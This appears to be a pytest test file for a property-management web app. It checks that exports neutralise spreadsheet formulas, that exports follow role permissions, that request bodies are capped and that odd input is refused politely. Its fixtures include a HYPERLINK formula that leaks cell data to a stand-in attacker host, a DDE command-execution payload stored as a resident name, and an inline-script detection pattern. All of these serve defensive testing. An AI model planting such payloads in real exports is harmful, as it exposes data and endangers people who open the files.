"""The web layer under hostile input (issue 11): exports, request bodies, reminders by hand, security
headers, odd input and who may export what."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from desk.app import create_app
from estate.billing.bills import generate_monthly_bills
from estate.billing.models import FeeItem
from estate.core.errors import NotFound
from estate.messaging.models import OutboundMessage
from estate.reporting.reports import to_csv, to_xlsx
from estate.residents.models import Resident
from estate.tickets.models import Ticket
from tests.support.console import console_world, sign_in
from tests.support.factories import make_ticket

EN = {"Accept-Language": "en-US,en;q=0.8"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
BIG = 2**63  # one past the largest id a BIGINT column holds


@pytest.fixture
async def world(ctx):
    w = await console_world(ctx)
    async with ctx.sessions() as s, s.begin():
        s.add(
            FeeItem(
                estate_id=w.estate.id,
                code="management",
                name="Management fee",
                kind="per_area",
                unit_price_cents=185,
            )
        )
    async with ctx.sessions() as s, s.begin():
        await generate_monthly_bills(s, clock=ctx.clock, estate_id=w.estate.id, period="2026-10")
    return w


def client_for(app, base_url: str = "http://t") -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=base_url)


async def queued(ctx) -> int:
    async with ctx.sessions() as s:
        return (await s.execute(select(func.count()).select_from(OutboundMessage))).scalar_one()


# --- item 8: spreadsheet formula injection ---------------------------------------------------------


def test_export_cells_that_would_start_a_formula_are_neutralised_and_numbers_stay_numbers():
    row = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "plain", "", 42, 3.5]
    parsed = list(csv.reader(io.StringIO(to_csv(["a"] * len(row), [row]).decode("utf-8-sig"))))
    assert parsed[1][:6] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert parsed[1][6:] == ["plain", "", "42", "3.5"]

    sheet = load_workbook(io.BytesIO(to_xlsx(["=head"], [row]))).active
    cells = list(sheet.iter_rows())
    assert cells[0][0].value == "'=head" and cells[0][0].data_type == "s"
    texts, numbers = cells[1][:8], cells[1][8:]
    assert [c.value for c in texts[:5]] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1"]
    assert texts[5].value in ("'\r=1", "'\n=1")  # XML reads a lone CR back as LF
    assert all(c.data_type == "s" for c in texts[:7])
    assert [(c.value, c.data_type) for c in numbers] == [(42, "n"), (3.5, "n")]


async def test_a_residents_formula_reaches_no_export_as_a_formula(ctx, world):
    await make_ticket(ctx, world, FORMULA)
    async with ctx.sessions() as s, s.begin():
        await s.execute(update(Resident).values(name="@cmd|' /C calc'!A0"))
    ctx.clock.set(ctx.clock.now().replace(day=28))
    async with client_for(create_app(ctx)) as c:
        csrf = await sign_in(c, "manager")
        made = await c.post("/console/reports/make", data={"csrf": csrf, "kind": "arrears_report"})
        assert made.status_code == 303
        listing = (await c.get("/console/reports")).text
        report_id = re.search(r"/console/reports/(\d+)\?format=xlsx", listing).group(1)
        xlsx = await c.get(f"/console/reports/{report_id}?format=xlsx")
        report_csv = await c.get(f"/console/reports/{report_id}?format=csv")
        tickets_csv = await c.get("/console/export/tickets.csv")
    tickets = list(csv.reader(io.StringIO(tickets_csv.content.decode("utf-8-sig"))))
    assert tickets[1][tickets[0].index("描述")] == "'" + FORMULA  # the "Description" column, in Chinese
    arrears = list(csv.reader(io.StringIO(report_csv.content.decode("utf-8-sig"))))
    assert arrears[1][1] == "'@cmd|' /C calc'!A0"
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet["B2"].value == "'@cmd|' /C calc'!A0" and sheet["B2"].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


# --- item 20: exports follow the role table of their pages ------------------------------------------


async def test_the_ticket_export_follows_the_ticket_pages_roles(ctx, world):
    mine = await make_ticket(ctx, world, "Tap drips in the kitchen")
    await make_ticket(ctx, world, "Someone else's leak")
    async with ctx.sessions() as s, s.begin():
        await s.execute(
            update(Ticket).where(Ticket.id == mine.id).values(technician_id=world.staff["technician"].id)
        )
    async with client_for(create_app(ctx)) as c:
        await sign_in(c, "cashier")
        refused = await c.get("/console/export/tickets.csv", headers=EN)
        reports = (await c.get("/console/reports")).text
    assert refused.status_code == 403 and "You do not have access to this page." in refused.text
    assert "/console/export/tickets.csv" not in reports
    async with client_for(create_app(ctx)) as c:
        await sign_in(c, "technician")
        own = await c.get("/console/export/tickets.csv")
    rows = list(csv.reader(io.StringIO(own.content.decode("utf-8-sig"))))
    assert own.status_code == 200 and [r[0] for r in rows[1:]] == [mine.ref]
    async with client_for(create_app(ctx)) as c:
        await sign_in(c, "supervisor")
        everything = await c.get("/console/export/tickets.csv")
    assert len(list(csv.reader(io.StringIO(everything.content.decode("utf-8-sig"))))) == 3


# --- item 13: "Remind" with a mistyped unit ---------------------------------------------------------


async def test_remind_with_a_mistyped_unit_queues_nothing_and_tells_staff(ctx, world):
    async with client_for(create_app(ctx)) as c:
        csrf = await sign_in(c, "cashier")
        r = await c.post("/console/fees/remind", data={"csrf": csrf, "unit": "1-1O1"}, headers=EN)
        assert r.status_code == 404 and "There is no such unit (1-1O1)." in r.text
        assert await queued(ctx) == 0
        ok = await c.post("/console/fees/remind", data={"csrf": csrf, "unit": "1-101"})
        assert ok.status_code == 303 and ok.headers["location"] == "/console/units/1-101"
        assert await queued(ctx) == 1
        everyone = await c.post("/console/fees/remind", data={"csrf": csrf})  # the arrears page's button
        assert everyone.status_code == 303 and everyone.headers["location"] == "/console/fees"


async def test_the_estate_refuses_a_reminder_to_an_unknown_unit(ctx, world):
    from estate.billing.reminders import remind_by_hand

    settings = ctx.settings
    quiet = (settings.tz, settings.quiet_start, settings.quiet_end)
    async with ctx.sessions() as s, s.begin():
        with pytest.raises(NotFound) as caught:
            await remind_by_hand(
                s, clock=ctx.clock, estate_id=world.estate.id, tz=settings.tz, quiet=quiet, unit_code="1-1O1"
            )
        assert caught.value.code == "unit_not_found"
    assert await queued(ctx) == 0
    async with ctx.sessions() as s, s.begin():
        n = await remind_by_hand(
            s, clock=ctx.clock, estate_id=world.estate.id, tz=settings.tz, quiet=quiet, unit_code=None
        )
    assert n == 1 == await queued(ctx)


# --- item 11: request bodies are capped before they are read ---------------------------------------


async def test_an_oversized_json_body_is_refused_by_its_length(ctx):
    ctx.settings.max_body_bytes = 10_000
    async with client_for(create_app(ctx)) as c:
        session = (await c.post("/chat/api/session")).json()["session"]
        h = {"X-Chat-Session": session, "Content-Type": "application/json", **EN}
        r = await c.post("/chat/api/send", content=b'{"text": "' + b"x" * 20_000 + b'"}', headers=h)
    assert r.status_code == 413
    assert r.json()["message"] == "That is more data than we accept in one request."


async def test_a_streamed_body_is_cut_off_at_the_limit(ctx):
    ctx.settings.max_body_bytes = 10_000
    sent = []

    async def chunks():
        for _ in range(1000):
            sent.append(1)
            yield b"[" * 1000

    async with client_for(create_app(ctx)) as c:
        session = (await c.post("/chat/api/session")).json()["session"]
        h = {"X-Chat-Session": session, "Content-Type": "application/json", **EN}
        r = await c.post("/chat/api/send", content=chunks(), headers=h)
    assert r.status_code == 413 and r.json()["error"] == "too_large"
    assert len(sent) <= 12


async def test_a_chat_upload_without_a_session_is_refused_before_it_is_parsed(ctx, monkeypatch):
    from starlette.requests import Request

    parsed = []
    original = Request._get_form

    async def spy(self, **kw):
        parsed.append(self.url.path)
        return await original(self, **kw)

    monkeypatch.setattr(Request, "_get_form", spy)
    async with client_for(create_app(ctx)) as c:
        for h in ({}, {"X-Chat-Session": "x" * 32}):
            r = await c.post(
                "/chat/api/send",
                files={"photo": ("a.png", b"\x89PNG" + b"0" * 200_000, "image/png")},
                headers=h,
            )
            assert r.status_code == 401
    assert parsed == []


async def test_a_console_upload_over_the_limit_is_refused(ctx, world):
    ctx.settings.max_upload_bytes = 50_000
    async with client_for(create_app(ctx)) as c:
        csrf = await sign_in(c, "manager")
        r = await c.post(
            "/console/import",
            data={"csrf": csrf, "kind": "residents"},
            files={"file": ("r.csv", b"unit,name,phone\n" + b"1-101,A,1\n" * 10_000, "text/csv")},
            headers=EN,
        )
        assert r.status_code == 413 and "more data than we accept" in r.text
        small = await c.post(
            "/console/import",
            data={"csrf": csrf, "kind": "residents"},
            files={"file": ("r.csv", b"unit,name,phone\n1-101,Li Si,13912345678\n", "text/csv")},
        )
        assert small.status_code == 200
    async with client_for(create_app(ctx)) as c:  # elsewhere a multipart body gets no more than a form
        r = await c.post(
            "/console/login", files={"file": ("x.bin", b"0" * (2 * 1024 * 1024), "text/plain")}, headers=EN
        )
        assert r.status_code == 413


# --- item 17: security headers -----------------------------------------------------------------------


async def test_every_page_carries_the_security_headers(ctx, world):
    async with client_for(create_app(ctx)) as c:
        pages = [
            await c.get(p) for p in ("/chat", "/console/login", "/healthz", "/chat/api/poll", "/nowhere")
        ]
        await sign_in(c, "manager")
        pages += [
            await c.get(p) for p in ("/console/fees", "/console/dashboard", "/console/static/console.js")
        ]
    for r in pages:
        csp = dict(
            part.strip().split(" ", 1)
            for part in r.headers["content-security-policy"].split(";")
            if part.strip()
        )
        assert csp["script-src"] == "'self'" and csp["frame-ancestors"] == "'none'", r.url
        assert "unsafe-inline" not in csp["style-src"] and csp["object-src"] == "'none'"
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "same-origin"


def test_no_template_carries_inline_script_or_style():
    root = Path(__file__).resolve().parents[2]
    inline = re.compile(
        # a JSON data block (type="application/json", "<" escaped) is data, never run: allowed
        r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>|\son[a-z]+\s*=|javascript:|<style|\sstyle\s*=|hx-on", re.IGNORECASE
    )
    found = [
        (str(path.relative_to(root)), m.group(0))
        for folder in ("console/templates", "bot/webchat/templates")
        for path in sorted((root / folder).rglob("*.html"))
        for m in inline.finditer(path.read_text(encoding="utf-8"))
    ]
    assert found == []


async def test_cookies_are_secure_over_https(ctx, world):
    async with client_for(create_app(ctx), "https://desk.example") as c:
        chat = await c.post("/chat/api/session")
        login = await c.post("/console/login", data={"username": "manager", "password": "console-pass-1"})
        lang = await c.get("/console/lang/en")
    for r in (chat, login, lang):
        assert "secure" in r.headers["set-cookie"].lower(), r.url
    async with client_for(create_app(ctx)) as c:
        chat = await c.post("/chat/api/session")
    assert "secure" not in chat.headers["set-cookie"].lower()


# --- item 18: odd input gets a polite 400/404, never a 500 ------------------------------------------


async def test_odd_chat_input_is_refused_politely(ctx):
    async with client_for(create_app(ctx)) as c:
        session = (await c.post("/chat/api/session")).json()["session"]
        h = {"X-Chat-Session": session, "Content-Type": "application/json", **EN}
        sorry = "Sorry, we could not read that message. Please try again."
        for body in (
            b'{"text": "\\ud800"}',
            b'{"choice": "a\\udfffb"}',
            b'{"text": "nul \\u0000 inside"}',
            b"[" * 50_000 + b"]" * 50_000,
            b'{"text": ' * 20_000 + b'"x"' + b"}" * 20_000,
        ):
            r = await c.post("/chat/api/send", content=body, headers=h)
            assert r.status_code == 400 and r.json()["message"] == sorry, body[:30]
        for after in (str(2**31), str(BIG), str(2**80), "-1", "abc", "1e3", "²"):
            r = await c.get(f"/chat/api/poll?after={after}", headers=h)
            assert r.status_code == 400 and r.json()["message"] == sorry, after
        assert (await c.get(f"/chat/api/poll?after={2**31 - 1}", headers=h)).json() == {"messages": []}
        assert (await c.post("/chat/api/send", json={"text": "hello"}, headers=h)).status_code == 200


async def test_console_ids_beyond_64_bits_are_not_found(ctx, world):
    async with client_for(create_app(ctx)) as c:
        csrf = await sign_in(c, "admin")
        gets = [
            f"/console/tickets/{BIG}",
            f"/console/tickets/{2**80}",
            f"/console/tickets/{2**31}",
            "/console/tickets/abc",
            f"/console/audit?before={BIG}",
            f"/console/reports/{BIG}",
            f"/console/notices/{BIG}/progress",
            f"/console/attachments/{BIG}",
            f"/console/tickets?building={BIG}",
            f"/console/tickets?page={BIG}",
        ]
        for path in gets:
            r = await c.get(path, headers=EN)
            assert r.status_code in (400, 404) and "Sorry" in r.text, (path, r.status_code)
        posts = [
            f"/console/tickets/{BIG}/claim",
            f"/console/callbacks/{BIG}",
            f"/console/units/1-101/unbind/{BIG}",
            f"/console/bookings/{BIG}/confirm",
            f"/console/staff/{BIG}/active",
        ]
        for path in posts:
            form = {"csrf": csrf, "active": "0", "overall": "5", "speed": "5", "attitude": "5"}
            r = await c.post(path, data=form, headers=EN)
            assert r.status_code in (400, 404) and "Sorry" in r.text, (path, r.status_code)
        r = await c.post(
            "/console/notices",
            data={"csrf": csrf, "title": "T", "body": "B", "target": "building", "building": str(BIG)},
            headers=EN,
        )
        assert r.status_code in (303, 400, 404, 422), r.status_code
        assert (await c.get("/console/tickets")).status_code == 200


async def test_a_hand_made_choice_with_a_huge_number_is_refused_politely(ctx):
    from estate.residents.codes import issue_binding_code
    from tests.support.dialogs import world_with_catalogue

    world = await world_with_catalogue(ctx, ctx.clock.now())
    async with ctx.sessions() as s, s.begin():
        code = await issue_binding_code(
            s, clock=ctx.clock, unit_id=world.unit.id, secret=ctx.settings.secret_key
        )
    async with client_for(create_app(ctx)) as c:
        session = (await c.post("/chat/api/session")).json()["session"]
        h = {"X-Chat-Session": session, **EN}
        await c.post("/chat/api/send", json={"choice": "menu:bind"}, headers=h)
        await c.post("/chat/api/send", json={"text": code}, headers=h)
        for choices in (
            ["menu:booking", f"svc:{BIG}"],
            ["menu:tickets", f"t:{BIG}"],
            ["menu:booking", f"svc:{2**31}"],
        ):
            replies = [await c.post("/chat/api/send", json={"choice": p}, headers=h) for p in choices]
            assert replies[-1].status_code in (200, 400), (choices, replies[-1].status_code)
            assert replies[-1].json().get("message") or replies[-1].json().get("replies")


async def test_nul_characters_in_console_input_never_crash_a_page(ctx, world):
    async with client_for(create_app(ctx)) as c:
        csrf = await sign_in(c, "admin")
        for path in ("/console/residents?q=%00", "/console/units/%00", "/console/units/%ED%A0%80"):
            r = await c.get(path, headers=EN)
            assert r.status_code in (200, 400, 404), (path, r.status_code)
        for path, form in (
            ("/console/notices", {"title": "a\x00b", "body": "x", "target": "estate"}),
            ("/console/units/1-101/pay", {"amount": "1", "key": "k\x00", "note": "\x00"}),
            ("/console/fees/remind", {"unit": "1-1\x0001"}),
        ):
            r = await c.post(path, data={"csrf": csrf, **form}, headers=EN)
            assert r.status_code in (303, 400, 404), (path, r.status_code)
            assert r.status_code == 303 or "Sorry" in r.text
